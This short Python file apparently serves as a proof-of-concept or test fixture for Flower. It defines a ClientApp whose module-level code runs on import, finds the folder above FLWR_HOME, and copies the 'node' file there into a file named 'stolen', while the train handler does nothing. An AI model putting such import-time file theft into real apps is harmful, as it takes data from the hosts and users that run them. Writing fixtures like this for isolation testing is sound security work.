"""Runs at import, under whatever user imports it, and finds the site's folder beside Flower's own."""

import os
from pathlib import Path

from flwr.app import Context, Message, RecordDict
from flwr.clientapp import ClientApp

site = Path(os.environ["FLWR_HOME"]).parent
(site / "stolen").write_bytes((site / "node").read_bytes())

app = ClientApp()


@app.train()
def train(message: Message, _context: Context) -> Message:
    return Message(RecordDict(), reply_to=message)
